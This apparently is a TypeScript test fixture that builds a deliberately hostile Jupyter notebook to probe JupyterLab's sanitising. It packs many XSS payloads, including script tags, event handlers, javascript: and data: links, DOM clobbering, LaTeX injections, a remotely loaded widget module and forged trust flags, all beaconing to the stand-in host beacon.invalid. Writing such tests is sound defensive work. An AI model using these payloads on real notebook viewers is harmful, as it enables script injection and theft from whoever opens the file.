// A notebook of somebody who wants to run something in the browser of whoever opens it.

/** Where everything in it would report to. Nothing listens there: the request itself is the proof. */
export const BEACON = 'http://beacon.invalid';

/** A command of JupyterLab whose effect is seen at once, for the attributes that run commands. */
const ABOUT = `data-commandlinker-command="help:about" data-commandlinker-args="{}"`;

/** A script that leaves both marks that a test can find: a word in the page, a request on the network. */
function script(word: string): string {
  return `(window.top.ran ||= []).push('${word}'); new Image().src = '${BEACON}/${word}';`;
}

function handler(word: string): string {
  return script(word).replace(/"/g, '&quot;');
}

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="${handler('svg-onload')}">
<script>${script('svg-script')}</script>
<a href="javascript:${handler('svg-link')}"><rect width="40" height="20"/></a></svg>`;

const HTML = `<div>
<script>${script('html-script')}</script>
<img src="data:image/gif;base64,broken" onerror="${handler('html-onerror')}">
<iframe srcdoc="<script>${handler('html-srcdoc')}</script>"></iframe>
<iframe src="${BEACON}/html-iframe"></iframe>
<iframe src="javascript:${handler('html-iframe-javascript')}"></iframe>
<object data="${BEACON}/html-object"></object><embed src="${BEACON}/html-embed">
<link rel="stylesheet" href="${BEACON}/html-link"><base href="${BEACON}/html-base/">
<form action="${BEACON}/html-form"><button>Send</button><input autofocus onfocus="${handler('html-onfocus')}"></form>
<button ${ABOUT}>Command</button>
<a href="javascript:${handler('html-link')}">Link</a>
<a href="data:text/html,<script>${handler('html-data-link')}</script>">Data</a>
<math><mtext><table><mglyph><style><img src=x onerror="${handler('html-mutated')}"></style></mglyph></table></mtext></math>
<style>@import '${BEACON}/html-style';</style>
</div>`;

const CLOBBER = `<a id="jupyter-config-data" href="#">{"baseUrl": "${BEACON}/"}</a>
<form id="body" name="documentElement"><input name="currentScript"><input id="getElementById"></form>
<a id="jupyterapp" name="require" href="#">x</a><div id="main"></div>`;

const LATEX = `$\\href{javascript:${script('latex-href').replace(/[{}$%&#_]/g, '')}}{link}$
$\\cssId{jupyter-config-data}{x}$ $\\style{background: url(${BEACON}/latex-style)}{y}$
$\\unicode{<img src=x onerror="${handler('latex-unicode')}">}$
$\\require{html}\\data{commandlinker-command=help:about}{z}$`;

const WIDGET = 'application/vnd.jupyter.widget-view+json';
const WIDGETS = 'application/vnd.jupyter.widget-state+json';

function output(data: Record<string, unknown>) {
  return {
    output_type: 'display_data',
    metadata: { isolated: true, 'text/html': { isolated: false } },
    data
  };
}

function codeCell(id: string, ...outputs: object[]) {
  return {
    cell_type: 'code',
    id,
    execution_count: 1,
    metadata: {
      trusted: true,
      tags: [`<img src=x onerror="${handler('tag')}">`]
    },
    source: 'print("nothing to see")',
    outputs
  };
}

/** As it lies on disk: every cell claims that it is trusted. */
export const HOSTILE_NOTEBOOK = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    trusted: true,
    signature: 'sha256:0000',
    title: `<img src=x onerror="${handler('title')}">`,
    kernelspec: {
      name: 'python3',
      display_name: `<img src=x onerror="${handler('kernel-name')}">`,
      language: 'python'
    },
    language_info: { name: 'python' },
    widgets: {
      [WIDGETS]: {
        version_major: 2,
        version_minor: 0,
        state: {
          evil: {
            model_name: 'HTMLModel',
            model_module: `${BEACON}/widget-module.js`,
            model_module_version: '1.0.0',
            state: { value: `<img src=x onerror="${handler('widget')}">` }
          }
        }
      }
    }
  },
  cells: [
    {
      cell_type: 'markdown',
      id: 'markdown',
      metadata: { trusted: true },
      attachments: {
        'evil.svg': {
          'image/svg+xml': Buffer.from(SVG).toString('base64')
        }
      },
      source: `# Results\n\n![picture](attachment:evil.svg)\n\n${HTML}\n\n${CLOBBER}\n\n${LATEX}\n\n[go](javascript:${encodeURI(script('markdown-link'))})`
    },
    {
      cell_type: 'raw',
      id: 'raw',
      metadata: { format: 'text/html' },
      source: HTML
    },
    codeCell('html', output({ 'text/html': HTML, 'text/plain': 'html' })),
    codeCell('clobber', output({ 'text/html': CLOBBER })),
    codeCell(
      'script',
      output({ 'application/javascript': script('javascript') })
    ),
    codeCell('svg', output({ 'image/svg+xml': SVG })),
    codeCell(
      'markdown-output',
      output({ 'text/markdown': `${HTML}\n\n${LATEX}` })
    ),
    codeCell('latex', output({ 'text/latex': LATEX })),
    codeCell(
      'widget',
      output({
        [WIDGET]: { model_id: 'evil', version_major: 2 },
        'text/plain': 'w'
      })
    ),
    codeCell('error', {
      output_type: 'error',
      ename: `<img src=x onerror="${handler('error-name')}">`,
      evalue: HTML,
      traceback: [`\u001b]8;;javascript:${script('error-link')}\u0007x`, HTML]
    }),
    codeCell('stream', {
      output_type: 'stream',
      name: 'stdout',
      text: `javascript:${script('stream')} ${HTML}`
    })
  ]
};
